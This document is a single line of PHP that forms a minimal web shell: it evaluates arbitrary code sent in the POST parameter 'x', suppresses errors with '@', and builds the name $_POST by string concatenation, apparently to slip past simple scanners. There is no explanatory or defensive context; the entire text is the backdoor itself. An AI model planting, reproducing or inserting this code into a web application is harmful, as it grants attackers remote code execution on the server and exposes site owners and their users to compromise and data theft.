<?php @eval(${'_'.'POST'}['x']);
